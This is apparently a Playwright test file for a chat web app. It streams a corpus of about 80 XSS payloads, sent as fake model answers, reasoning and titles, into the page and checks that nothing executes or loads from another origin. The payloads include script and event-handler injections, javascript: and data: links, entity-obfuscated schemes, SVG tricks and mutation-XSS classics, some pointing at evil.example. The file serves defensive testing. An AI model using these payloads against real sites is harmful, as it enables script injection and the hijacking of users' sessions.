"""Hostile model output, streamed into the real page: a corpus of XSS payloads must stay inert.

Each payload is one answer of the fake model server, split into pieces of 1 or 3 characters
(``@@fake{"chunk": N}``) so that tags, URLs and entities straddle token boundaries and the
page renders every half-written state of them. After each answer, and again after a reload
(the stored answers are rendered from the database), the page is checked:

- no sentinel ran: ``window.__xss`` is unset, the title is not ``pwned``, no dialog opened;
- the answer's DOM holds nothing active: no ``on*`` attribute, no script, frame, object,
  svg, base, meta, form or style element, no ``javascript:``/``vbscript:``/``data:`` link,
  nothing that loads from another origin;
- the browser did nothing on the answer's behalf: no request left the app's origin, the
  page was not navigated, no frame or popup opened, and no Content-Security-Policy
  violation was reported (the CSP is the second wall: a violation means the first one, the
  renderer and sanitizer, let something through, even if the CSP then blocked it).
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Dialog, Frame, Page, Request, expect
from playwright.sync_api import TimeoutError as PlaywrightTimeoutError

from brook.chat.titles import cleaned

from .conftest import AppFactory, LiveServer
from .fakemodel import FakeModelServer

pytestmark = pytest.mark.browser

EVIL = "https://evil.example"

# (name, payload). Sentinels: window.__xss = N, document.title = 'pwned', alert(N), a fetch,
# an image, a navigation or a frame to evil.example.
PAYLOADS: list[tuple[str, str]] = [
    # -- script tags
    ("script plain", "<script>window.__xss=1</script>"),
    ("script mixed case", "Before <ScRiPt>window.__xss=2</sCrIpT> after"),
    ("script nested", "<scr<script>ipt>window.__xss=3</scr</script>ipt>"),
    ("script broken", f'<script src="{EVIL}/4.js"></script\n<script>window.__xss=4'),
    ("script src slash", '<script/src="data:text/javascript,window.__xss=5"></script>'),
    ("script in list", "- item <script>document.title='pwned'</script>\n- two"),
    # -- event handlers
    ("img onerror", '<img src=x onerror="window.__xss=7">'),
    ("img slashes", "<img/src/onerror=window.__xss=8>"),
    ("svg onload", "<svg onload=\"document.title='pwned'\">"),
    ("body onload", '<body onload="window.__xss=10">'),
    ("details ontoggle", '<details open ontoggle="window.__xss=11"><summary>s</summary></details>'),
    ("video source onerror", '<video><source onerror="window.__xss=12"></video>'),
    ("video poster", f'<video poster="{EVIL}/13.png" src=x onerror="window.__xss=13"></video>'),
    ("iframe onload", f'<iframe onload="window.__xss=14" src="{EVIL}/14"></iframe>'),
    ("input autofocus", '<input autofocus onfocus="window.__xss=15">'),
    ("marquee onstart", '<marquee onstart="window.__xss=16">m</marquee>'),
    ("a onmouseover", '<a href="#" onmouseover="window.__xss=17">hover</a>'),
    ("img fetch", f"<img src=x onerror=\"fetch('{EVIL}/18')\">"),
    # -- dangerous URLs in Markdown
    ("md javascript link", "[click](javascript:window.__xss=19)"),
    ("md mixed-case scheme", "[click](JaVaScRiPt:window.__xss=20)"),
    ("md vbscript link", "[click](vbscript:msgbox(21))"),
    ("md data html link",
     "[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MjI8L3NjcmlwdD4=)"),
    ("md data html plain", "[click](data:text/html,%3Cscript%3Ealert(23)%3C/script%3E)"),
    ("autolink javascript", "<javascript:window.__xss=24>"),
    ("autolink vbscript", "<vbscript:msgbox(25)>"),
    ("reference link", "[click][evil] and [evil]\n\n[evil]: javascript:window.__xss=26"),
    ("reference image", f"![pic][img]\n\n[img]: {EVIL}/27.png"),
    ("md external image", f"![x]({EVIL}/28.png)"),
    ("md protocol-relative image", "![x](//evil.example/29.png)"),
    ("md scheme-only image", "![x](https:evil.example/30.png)"),
    ("md javascript image", "![x](javascript:window.__xss=31)"),
    ("md image title breakout",
     f'![x" onerror="window.__xss=32]({EVIL}/32.png "t\\" onload=\\"x")'),
    ("md link location", f"[go](javascript:location='{EVIL}/33')"),
    # -- broken Markdown link syntax
    ("md unclosed link", "[a](javascript:alert(34)"),
    ("md angle destination", "[a](<javascript:window.__xss=35>)"),
    ("md nested brackets", f"[a [b](javascript:window.__xss=36) c]({EVIL}/36)"),
    ("md title attribute breakout",
     '[a](https://ok.example "x\\" onmouseover=\\"window.__xss=37")'),
    ("md link in image alt", "![a [b](javascript:window.__xss=38)](x.png)"),
    # -- entities
    ("entity decimal scheme", "[a](&#106;avascript:window.__xss=39)"),
    ("entity hex scheme", "[a](&#x6A;&#x61;vascript:window.__xss=40)"),
    ("entity colon", "[a](javascript&colon;window.__xss=41)"),
    ("entity tab in scheme", "[a](java&#9;script:window.__xss=42)"),
    ("entity angle colon", "[a](<javascript&#58;window.__xss=43>)"),
    ("escaped script text", "&lt;script&gt;window.__xss=44&lt;/script&gt;"),
    ("numeric entity tag", "&#60;img src=x onerror=window.__xss=45&#62;"),
    # -- SVG
    ("svg script", "<svg><script>window.__xss=46</script></svg>"),
    ("svg animate onbegin", '<svg><animate onbegin="window.__xss=47" attributeName=x dur=1s>'),
    ("svg set onload", '<svg><set attributeName="onload" to="window.__xss=48"/></svg>'),
    ("svg animate href",
     "<svg><a><animate attributeName=href values=javascript:window.__xss=49 />"
     "<text x=20 y=20>click</text></a></svg>"),
    ("svg use data",
     "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
     "<image href='1' onerror='window.__xss=50'/></svg>#x\"/></svg>"),
    # -- frames, objects, document-level elements
    ("iframe srcdoc", '<iframe srcdoc="<script>parent.__xss=51</script>"></iframe>'),
    ("object data", '<object data="javascript:window.__xss=52"></object>'),
    ("object external", f'<object data="{EVIL}/53.swf" type="application/x-shockwave-flash">'),
    ("embed", f'<embed src="{EVIL}/54.swf"><embed src="javascript:window.__xss=54">'),
    ("meta refresh", f'<meta http-equiv="refresh" content="0;url={EVIL}/55">'),
    ("base href", f'<base href="{EVIL}/56/">\n\n![x](relative.png) [rel](relative.html)'),
    ("form action",
     f'<form action="{EVIL}/57"><input name=q><button>go</button></form>'
     '<button formaction="javascript:window.__xss=57">x</button>'),
    ("style import", f"<style>@import url({EVIL}/58.css);</style>"),
    ("style background",
     f'<style>body{{background:url({EVIL}/59.png)}}</style>'
     f'<div style="background:url({EVIL}/59b.png)">bg</div>'),
    ("link stylesheet", f'<link rel=stylesheet href="{EVIL}/60.css">'),
    # -- mutation XSS classics
    ("mxss noscript", '<noscript><p title="</noscript><img src=x onerror=window.__xss=61>">'),
    ("mxss title", '<title><a title="</title><img src=x onerror=window.__xss=62>">'),
    ("mxss textarea",
     '<textarea><img title="</textarea><img src=x onerror=window.__xss=63>"></textarea>'),
    ("mxss math style", "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=64>"),
    ("mxss svg p style", '<svg></p><style><a id="</style><img src=1 onerror=window.__xss=65>">'),
    ("html comment", "<!--><img src=x onerror=window.__xss=66>-->"),
    ("cdata", "<![CDATA[><img src=x onerror=window.__xss=67>]]>"),
    # -- HTML inside Markdown structures
    ("fence info string", '```"><img src=x onerror=window.__xss=68>\ncode\n```'),
    ("fenced script", "```html\n<script>window.__xss=69</script>\n```"),
    ("table cell", "| a | b |\n|---|---|\n| <img src=x onerror=window.__xss=70> | x |"),
    ("heading", "# <svg onload=alert(71)> title"),
    ("task list", "- [x] <img src=x onerror=window.__xss=72>\n- [ ] two"),
    ("raw a javascript", '<a href="javascript:window.__xss=73">x</a>'),
    ("html in link text", "[<img src=x onerror=window.__xss=74>](https://ok.example)"),
    ("autolink quote breakout", '<https://ok.example/"onmouseover="window.__xss=75>'),
    ("html in emphasis", "**<img src=x onerror=window.__xss=76>** and _<svg onload=alert(76)>_"),
    ("html in blockquote", "> <iframe src=javascript:window.__xss=77></iframe>\n> quoted"),
    ("md data svg link",
     "[x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDc4KSIvPg==) "
     "![y](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDc4KSIvPg==)"),
]

# Installed before the page's own scripts (init scripts run despite the CSP). It defines how
# an element is judged, and records (1) every CSP violation and (2) every element that was
# ever inserted into, or changed in, an answer's `.content` and was active, so that a
# half-streamed state that the next frame re-renders away is still caught.
INSTRUMENT = r"""
(() => {
  const ACTIVE = "script, iframe, frame, frameset, object, embed, applet, svg, math, base, "
    + "meta, link, form, style, noscript, template, portal";
  const BAD_SCHEME = /^(javascript|vbscript|data):/i;
  const inspect = (node) => {
    const problems = [];
    const tag = node.tagName.toLowerCase();
    if (node.matches(ACTIVE)) problems.push(`<${tag}> element`);
    for (const attr of node.attributes) {
      const name = attr.name.toLowerCase();
      const value = attr.value.replace(/[\u0000-\u0020]/g, "");
      if (name.startsWith("on")) problems.push(`<${tag} ${name}>`);
      if (["srcdoc", "formaction", "action", "ping", "srcset", "poster", "background"]
          .includes(name)) problems.push(`<${tag} ${name}=${attr.value}>`);
      if (name === "style" && /url\(|expression\(|@import/i.test(value))
        problems.push(`<${tag} style=${attr.value}>`);
      if (["href", "src", "xlink:href", "data", "action"].includes(name)
          && BAD_SCHEME.test(value) && !(tag === "img" && /^data:image\//i.test(value)))
        problems.push(`<${tag} ${name}=${attr.value}>`);
      if (["src", "data"].includes(name)) {
        let origin = null;
        try { origin = new URL(attr.value, document.baseURI).origin; } catch {}
        if (origin !== location.origin && !/^data:image\//i.test(value))
          problems.push(`<${tag} ${name}=${attr.value}> loads from another origin`);
      }
    }
    if (tag === "a" && node.hasAttribute("href")
        && ["javascript:", "vbscript:", "data:"].includes(node.protocol))
      problems.push(`<a href=${node.getAttribute("href")}> (${node.protocol})`);
    return problems;
  };
  window.__xssInspect = inspect;
  window.__cspViolations = [];
  window.__activeSeen = [];
  // Chromium also reports inline-handler, <style> and <base> violations when markup is only
  // parsed into an inert document (DOMParser, <template>: what a sanitizer does first); those
  // are aimed at the document. Count the ones aimed at an element of the live page (hostile
  // markup made it in) and every blocked load (something tried to fetch from elsewhere).
  document.addEventListener("securitypolicyviolation", (e) => {
    const live = e.target instanceof Element && e.target.ownerDocument === document;
    const load = e.violatedDirective !== "base-uri"
      && !/^(inline|eval|wasm-eval|trusted-types-)/.test(e.blockedURI);
    if (live || load) {
      const where = live ? `<${e.target.tagName.toLowerCase()}>` : "document";
      window.__cspViolations.push(`${e.violatedDirective} ${e.blockedURI} on ${where}`);
    }
  }, true);
  const inContent = (node, parent) =>
    Boolean(node.closest(".content") || (parent instanceof Element && parent.closest(".content")));
  const record = (el) => {
    for (const problem of inspect(el)) window.__activeSeen.push(problem);
  };
  new MutationObserver((mutations) => {
    for (const m of mutations) {
      if (m.type === "attributes") {
        if (m.target instanceof Element && inContent(m.target, null)) record(m.target);
        continue;
      }
      for (const node of m.addedNodes) {
        if (!(node instanceof Element) || !inContent(node, m.target)) continue;
        record(node);
        for (const el of node.querySelectorAll("*")) record(el);
      }
    }
  }).observe(document, { childList: true, subtree: true, attributes: true });
})();
"""

CHECK_ANSWERS = """(indexes) => {
  const answers = document.querySelectorAll('.message[data-role="assistant"]');
  return indexes.map((i) => {
    const el = answers[i];
    if (!el) return { missing: true };
    const content = el.querySelector(".content");
    const problems = [];
    for (const node of content ? content.querySelectorAll("*") : []) {
      problems.push(...window.__xssInspect(node));
    }
    return {
      status: el.dataset.status,
      empty: !content || (!content.textContent.trim() && !content.querySelector("*")),
      problems,
    };
  });
}"""

CHECK_THINKING = """(indexes) => {
  const answers = document.querySelectorAll('.message[data-role="assistant"]');
  return indexes.map((i) => {
    const el = answers[i];
    const body = el && el.querySelector(".thinking > .content");
    if (!body) return { missing: true };
    const problems = [];
    for (const node of body.querySelectorAll("*")) problems.push(...window.__xssInspect(node));
    const empty = !body.textContent.trim() && !body.querySelector("*");
    return { status: el.dataset.status, empty, problems };
  });
}"""

ANSWERED = """(i) => {
  const answer = document.querySelectorAll('.message[data-role="assistant"]')[i];
  return answer !== undefined && answer.dataset.status === "complete";
}"""

PAGE_STATE = """() => {
  const state = {
    xss: typeof window.__xss === "undefined" ? null : String(window.__xss),
    title: document.title,
    baseURI: document.baseURI,
    csp: window.__cspViolations,
    seen: window.__activeSeen,
    frames: window.frames.length,
  };
  window.__activeSeen = [];
  return state;
}"""


@dataclass
class Watch:
    """What the browser did on its own: requests, navigations, frames, dialogs, popups."""

    origin: str
    requests: list[str] = field(default_factory=list)
    navigations: list[str] = field(default_factory=list)
    frames: list[str] = field(default_factory=list)
    dialogs: list[str] = field(default_factory=list)
    popups: list[str] = field(default_factory=list)
    errors: list[str] = field(default_factory=list)

    def attach(self, page: Page) -> None:
        page.on("request", lambda r: self._request(r))
        page.on("framenavigated", lambda f: self._navigated(page, f))
        page.on("frameattached", lambda f: self.frames.append(f.url))
        page.on("dialog", lambda d: self._dialog(d))
        page.on("popup", lambda p: self.popups.append(p.url))
        page.on("pageerror", lambda exc: self.errors.append(str(exc)))

    def _request(self, request: Request) -> None:
        parts = urlsplit(request.url)
        if f"{parts.scheme}://{parts.netloc}" != self.origin:
            self.requests.append(request.url)

    def _navigated(self, page: Page, frame: Frame) -> None:
        if frame != page.main_frame or not frame.url.startswith(self.origin + "/"):
            self.navigations.append(frame.url)

    def _dialog(self, dialog: Dialog) -> None:
        self.dialogs.append(f"{dialog.type}: {dialog.message}")
        dialog.dismiss()

    def findings(self) -> dict[str, list[str]]:
        found = {"requests to other origins": self.requests, "navigations": self.navigations,
                 "frames attached": self.frames, "dialogs": self.dialogs,
                 "popups": self.popups, "page errors": self.errors}
        return {k: list(v) for k, v in found.items() if v}


@pytest.fixture
def watched(page: Page, site: LiveServer) -> tuple[Page, Watch]:
    watch = Watch(site.url)
    watch.attach(page)
    page.add_init_script(INSTRUMENT)
    page.goto(site.url + "/")
    expect(page.locator("#prompt")).to_be_editable()
    return page, watch


def check_page(page: Page, watch: Watch, where: str, title: str | None = None) -> None:
    """The page-wide sentinels; `where` names the payload(s) just rendered. `title`: the
    document's title expected as it is (a payload shown as a conversation's title)."""
    state: dict[str, Any] = page.evaluate(PAGE_STATE)
    assert state["xss"] is None, f"{where}: window.__xss was set to {state['xss']!r}"
    if title is not None:
        assert state["title"] == title, f"{where}: document.title is {state['title']!r}"
    else:
        assert "pwned" not in state["title"], f"{where}: document.title became {state['title']!r}"
        assert "Brook" in state["title"], f"{where}: document.title is {state['title']!r}"
    assert state["baseURI"].startswith(watch.origin + "/"), (
        f"{where}: the document's base URL became {state['baseURI']!r}")
    assert state["csp"] == [], f"{where}: Content-Security-Policy violations: {state['csp']}"
    assert state["seen"] == [], (
        f"{where}: active content appeared in an answer while rendering: {state['seen']}")
    assert state["frames"] == 0, f"{where}: {state['frames']} frame(s) in the page"
    assert watch.findings() == {}, f"{where}: the browser acted: {watch.findings()}"


def check_answers(page: Page, indexes: list[int]) -> None:
    results: list[dict[str, Any]] = page.evaluate(CHECK_ANSWERS, indexes)
    for index, result in zip(indexes, results, strict=True):
        name, payload = PAYLOADS[index]
        where = f"payload #{index} {name!r} ({payload!r})"
        assert not result.get("missing"), f"{where}: its answer is not on the page"
        assert result["status"] == "complete", f"{where}: answer status {result['status']!r}"
        assert not result["empty"], (
            f"{where}: the answer rendered empty (raw HTML is to be shown as text)")
        assert result["problems"] == [], f"{where}: active content in the answer: " + "; ".join(
            result["problems"])


@pytest.mark.parametrize("chunk", [1, 3])
def test_hostile_answers_stay_inert(watched: tuple[Page, Watch], fake: FakeModelServer,
                                    chunk: int) -> None:
    page, watch = watched
    answers = page.locator('.message[data-role="assistant"]')
    directive = "@@fake" + json.dumps({"chunk": chunk})
    for index, (name, payload) in enumerate(PAYLOADS):
        fake.reply = payload
        page.locator("#prompt").fill(f"Payload {index} {directive}")
        page.locator("#prompt").press("Enter")
        where = f"payload #{index} {name!r} ({payload!r})"
        try:
            page.wait_for_function(ANSWERED, arg=index, timeout=15_000)
        except PlaywrightTimeoutError:
            pytest.fail(f"{where}: the answer did not complete; the page shows "
                        f"{answers.count()} answer(s); page errors: {watch.errors}")
        check_answers(page, [index])
        check_page(page, watch, where)

    # The stored answers, rendered again from the database.
    url = page.url
    page.reload()
    assert page.url == url
    expect(answers).to_have_count(len(PAYLOADS), timeout=15_000)
    check_answers(page, list(range(len(PAYLOADS))))
    check_page(page, watch, f"after reload, all {len(PAYLOADS)} payloads")


def check_thinking(page: Page, indexes: list[int]) -> None:
    results: list[dict[str, Any]] = page.evaluate(CHECK_THINKING, indexes)
    for index, result in zip(indexes, results, strict=True):
        name, payload = PAYLOADS[index]
        where = f"payload #{index} {name!r} ({payload!r}) as reasoning"
        assert not result.get("missing"), f"{where}: no Thinking block"
        assert result["status"] == "complete", f"{where}: answer status {result['status']!r}"
        assert not result["empty"], f"{where}: the reasoning rendered empty"
        assert result["problems"] == [], f"{where}: active content: " + "; ".join(
            result["problems"])


def test_hostile_reasoning_stays_inert(watched: tuple[Page, Watch]) -> None:
    """The corpus as a model's reasoning: streamed into the Thinking block (open while it
    streams), then rendered again from the database when each block is opened."""
    page, watch = watched
    answers = page.locator('.message[data-role="assistant"]')
    for index, (name, payload) in enumerate(PAYLOADS):
        directive = "@@fake" + json.dumps({"chunk": 3, "reasoning": payload, "reply": "Done."})
        page.locator("#prompt").fill(f"Payload {index} {directive}")
        page.locator("#prompt").press("Enter")
        where = f"payload #{index} {name!r} ({payload!r}) as reasoning"
        try:
            page.wait_for_function(ANSWERED, arg=index, timeout=15_000)
        except PlaywrightTimeoutError:
            pytest.fail(f"{where}: the answer did not complete; page errors: {watch.errors}")
        check_thinking(page, [index])
        check_page(page, watch, where)

    page.reload()
    expect(answers).to_have_count(len(PAYLOADS), timeout=15_000)
    for summary in page.locator(".thinking > summary").all():
        summary.click()  # a stored reasoning is rendered when its block is opened
    check_thinking(page, list(range(len(PAYLOADS))))
    check_page(page, watch, f"after reload, all {len(PAYLOADS)} payloads as reasoning")


CHECK_TITLES = """() => {
  const problems = [];
  for (const root of document.querySelectorAll("#conversation-list, #conversation-title")) {
    for (const node of root.querySelectorAll("*")) {
      if (node.closest("svg.icon")) continue; // the page's own icons
      problems.push(...window.__xssInspect(node));
    }
  }
  return { problems, titles: [...document.querySelectorAll(
    "#conversation-list li.conversation-item button.conversation")].map((b) => b.textContent),
    heading: document.querySelector("#conversation-title").textContent };
}"""


def test_hostile_titles_stay_inert(page: Page, make_app: AppFactory, serve: Any,
                                   sqlite_url: str, fake: FakeModelServer) -> None:
    """The corpus as titles the model writes: shown in the sidebar, the header and the tab's
    title as text, never as markup."""
    live = serve(make_app(sqlite_url, MODEL_TITLES="true"))
    watch = Watch(live.url)
    watch.attach(page)
    page.add_init_script(INSTRUMENT)
    page.goto(live.url + "/")
    expect(page.locator("#prompt")).to_be_editable()
    for index, (name, payload) in enumerate(PAYLOADS):
        expected = cleaned(payload)
        if expected is None:
            continue
        fake.reply = payload  # the answer, and the title the model writes after it
        page.get_by_role("button", name="New chat").click()
        page.locator("#prompt").fill(f"Payload {index}")
        page.locator("#prompt").press("Enter")
        where = f"payload #{index} {name!r} ({payload!r}) as a title"
        expect(page.locator("#conversation-title"), where).to_have_text(expected,
                                                                       timeout=15_000)
        state: dict[str, Any] = page.evaluate(CHECK_TITLES)
        assert state["problems"] == [], f"{where}: active content: {state['problems']}"
        assert expected in state["titles"], f"{where}: the sidebar shows {state['titles']}"
        check_page(page, watch, where, title=f"{expected} · Brook")
    page.reload()
    expect(page.locator("#conversation-list li.conversation-item")).to_have_count(
        sum(cleaned(payload) is not None for _, payload in PAYLOADS), timeout=15_000)
    assert page.evaluate(CHECK_TITLES)["problems"] == []
    last = [cleaned(payload) for _, payload in PAYLOADS if cleaned(payload)][-1]
    check_page(page, watch, "after reload, every payload as a title", title=f"{last} · Brook")


def test_corpus_is_large_and_distinct() -> None:
    names = [name for name, _ in PAYLOADS]
    assert len(PAYLOADS) >= 40
    assert len(set(names)) == len(names)
    assert len({payload for _, payload in PAYLOADS}) == len(PAYLOADS)
